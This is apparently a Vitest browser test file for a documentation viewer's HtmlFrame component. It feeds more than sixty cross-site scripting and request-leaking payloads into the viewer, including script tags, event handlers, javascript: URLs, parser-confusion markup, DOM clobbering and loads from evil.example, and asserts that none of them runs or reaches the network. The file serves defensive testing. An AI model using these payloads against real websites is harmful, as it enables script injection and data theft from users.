import { afterAll, beforeAll, expect, test, vi } from 'vitest'
import { commands, page } from 'vitest/browser'
import { render } from 'vitest-browser-react'
import { HtmlFrame } from '../../src/html-frame/html-frame'

// Attacks as documents in the documentation's frame. None may run a script or send a request, here even without the
// Content-Security-Policy, the second barrier in production.

/** Tells every window above the document that a script ran, the test's own included. */
const run = 'for(w=self;w!=top;w=w.parent)w.parent.postMessage(`ran`,`*`)'
const evil = 'https://evil.example/'
const press = 'Press here'

const payloads: readonly string[] = [
  // Scripts
  `<script>${run}</script>`,
  `<script src="${evil}a.js"></script>`,
  `<script type=module>${run}</script>`,
  `<scr<script>ipt>${run}</script>`,
  `<SCRIPT/x>${run}</SCRIPT>`,
  `<noscript><p title="</noscript><script>${run}</script>"></noscript>`,
  `<template><script>${run}</script></template><div><template shadowrootmode=open><script>${run}</script></template></div>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><script href="${evil}a.js"></script></svg>`,
  `<math><annotation-xml encoding="text/html"><script>${run}</script></annotation-xml></math>`,
  // Handlers
  `<img src=x onerror="${run}">`,
  `<img src=x:x onerror=&#102;or(w=self;w!=top;w=w.parent)w.parent.postMessage(\`ran\`,\`*\`)>`,
  `<image src=x onerror="${run}">`,
  `<svg onload="${run}">`,
  `<svg><g onload="${run}"></g></svg>`,
  `<body onload="${run}" onpageshow="${run}">`,
  `<details open ontoggle="${run}"><summary>x</summary></details>`,
  `<video><source onerror="${run}"></video>`,
  `<audio src=x onerror="${run}"></audio>`,
  `<input autofocus onfocus="${run}">`,
  `<p tabindex=0 autofocus onfocus="${run}">x</p>`,
  `<marquee onstart="${run}">x</marquee>`,
  `<style>@keyframes a{}</style><p style="animation: a 1ms" onanimationstart="${run}">x</p>`,
  `<p style="transition: color 1ms" ontransitionrun="${run}">x</p>`,
  `<x-y onclick="${run}" onpointerover="${run}">${press}</x-y>`,
  `<p onclick="${run}">${press}</p>`,
  `<button popovertarget=b>${press}</button><p id=b popover onbeforetoggle="${run}">x</p>`,
  // Script URLs
  `<a href="javascript:${run}">${press}</a>`,
  `<a href="JaVaScRiPt:${run}">${press}</a>`,
  `<a href="java&#9;script:${run}">${press}</a>`,
  `<a href=" &#1;javascript:${run}">${press}</a>`,
  `<a href="&#106;avascript:${run}">${press}</a>`,
  `<a href="data:text/html,<script>${run}</script>">${press}</a>`,
  `<a target=_top href="javascript:${run}">${press}</a>`,
  `<svg width=200 height=40><a xlink:href="javascript:${run}"><text y=20>${press}</text></a></svg>`,
  `<svg width=200 height=40><a id=a><animate attributeName=href values="javascript:${run}"/><text y=20>${press}</text></a></svg>`,
  `<math><mi href="javascript:${run}">${press}</mi></math>`,
  `<map name=m><area shape=rect coords=0,0,99,99 href="javascript:${run}"></map><img usemap="#m" alt="${press}">`,
  `<iframe src="javascript:${run}"></iframe>`,
  `<iframe srcdoc="<script>${run}</script>"></iframe>`,
  `<object data="javascript:${run}"></object>`,
  `<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run}'/>">`,
  `<form action="javascript:${run}"><button>${press}</button></form>`,
  `<form><button formaction="javascript:${run}">${press}</button></form>`,
  // Markup whose meaning changes when it is parsed again
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=&quot;${run}&quot;&gt;">`,
  `<svg></p><style><a id="</style><img src=1 onerror='${run}'>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${run}">`,
  `<noembed><img title="</noembed><img src onerror='${run}'>"></noembed>`,
  `<xmp><p title="</xmp><img src=x onerror='${run}'>">`,
  `<textarea><p title="</textarea><img src=x onerror='${run}'>">`,
  `<title><p title="</title><img src=x onerror='${run}'>">`,
  `<!--><img src=x onerror="${run}">-->`,
  `<![CDATA[><img src=x onerror="${run}">]]>`,
  `<svg><![CDATA[</svg><img src=x onerror="${run}">]]></svg>`,
  // Names that shadow those of the document
  `<form id=f><input name=attributes><input name=parentNode><input name=nodeName></form><img src=x onerror="${run}">`,
  `<img name=currentScript><img name=body><a id=location href="javascript:${run}">${press}</a>`,
  `<p id=__proto__><p id=constructor><a id=defaultView name=defaultView href="${evil}">x</a>`,
  // Requests
  `<img src="${evil}a.png" srcset="${evil}b.png 2x"><picture><source srcset="${evil}c.png"><img src="${evil}d.png"></picture>`,
  `<video src="${evil}a.mp4" poster="${evil}a.png"></video><audio src="${evil}a.mp3"></audio><track src="${evil}a.vtt">`,
  `<link rel=stylesheet href="${evil}a.css"><link rel=preconnect href="${evil}"><link rel=prefetch href="${evil}b">`,
  `<style>@import "${evil}a.css"; @font-face { font-family: e; src: url(${evil}a.woff2) } body { font-family: e; background: url(${evil}a.png) }</style>`,
  `<p style="background: url(${evil}a.png); list-style-image: url(${evil}b.png); cursor: url(${evil}c.cur), auto">x</p>`,
  `<p style="background: \\75 rl(${evil}a.png); --a: url(${evil}b.png); content: image-set('${evil}c.png' 1x)">x</p>`,
  `<table background="${evil}a.png"><tr><td background="${evil}b.png">x</td></tr></table>`,
  `<svg><image href="${evil}a.png"/><use href="${evil}x.svg#a"/><rect fill="url(${evil}a.svg#b)" filter="url(${evil}f.svg#a)"/></svg>`,
  `<svg><style>@import "${evil}a.css";</style><foreignObject><iframe src="${evil}"></iframe></foreignObject></svg>`,
  `<iframe src="${evil}"></iframe><object data="${evil}a.swf"></object><embed src="${evil}a">`,
  `<meta http-equiv=refresh content="0; url=${evil}"><base href="${evil}"><img src="a.png"><a href="#x" ping="${evil}">${press}</a>`,
  `<form action="${evil}" id=f><input name=a value=b></form><button form=f>${press}</button>`,
]

let ran = 0
const onMessage = ({ data }: MessageEvent) => {
  if (data === 'ran') ran += 1
}
beforeAll(async () => {
  addEventListener('message', onMessage)
  await commands.watchRequests()
})
afterAll(() => removeEventListener('message', onMessage))

/** Shows a hostile document and clicks what triggers the attack. */
async function show(html: string, onArticle = vi.fn()): Promise<void> {
  const onHeadings = vi.fn()
  await render(
    <HtmlFrame
      title="A document"
      html={html}
      base="/documentation/helyx/4.3/solver"
      onLink={() => undefined}
      onHeadings={onHeadings}
      onArticle={onArticle}
    />,
  )
  await expect.poll(() => onHeadings.mock.calls.length).toBeGreaterThan(0)
  await expect.element(page.getByTitle('A document')).not.toHaveAttribute('data-loading')
  if (html.includes(`>${press}<`))
    await page.frameLocator(page.getByTitle('A document')).getByText(press).click()
  await expect.element(page.getByTitle('A document')).toBeInTheDocument()
}

async function expectNothing(): Promise<void> {
  expect(ran).toBe(0)
  expect(await commands.requestsTo('evil.example')).toEqual([])
}

for (const [index, html] of payloads.entries()) {
  // Adjacent entries are spellings of one attack.
  const tagsOf = (turn: number) => (index % 6 === turn ? [] : ['all'])
  const name = html.replaceAll(run, '…')

  test(`[R4] runs nothing and asks nobody: ${name}`, { tags: tagsOf(0) }, async () => {
    await show(`<h2>Beginning</h2>${html}`)
    await expectNothing()
  })

  test(`[R4] nor in an article with formulas, tabs and folded parts: ${name}`, {
    tags: tagsOf(3),
  }, async () => {
    const onArticle = vi.fn()
    await show(
      `<nav><a href="${evil}">Menu</a></nav><main><article><h1>Walls</h1><h2>Beginning</h2>
      <p>The distance <span class="math">\\(y^+\\)</span> of the first cell decides which formula holds.</p>
      <div role="tablist"><b role="tab" aria-controls="p">Linux</b></div><div id="p" role="tabpanel" hidden>In a shell.</div>
      <h3>More</h3><div style="display: none">Folded away.</div><div class="part">${html}</div></article></main>`,
      onArticle,
    )
    expect(onArticle).toHaveBeenCalledWith({ isPart: true, title: 'Walls' })
    await expect.poll(() => commands.frameMarkup('A document')).toContain('<math')
    await expectNothing()
  })
}

test('[R4] there are more than sixty of them, and such a document anywhere else does run and ask', async () => {
  expect(payloads.length).toBeGreaterThan(60)
  expect(ran).toBe(0)
  const plain = document.body.appendChild(document.createElement('iframe'))
  plain.srcdoc = `<img src="${evil}seen.png" onerror="${run}">`
  await expect.poll(() => ran).toBe(1)
  await expect.poll(() => commands.requestsTo('evil.example')).toEqual([`${evil}seen.png`])
  plain.remove()
})
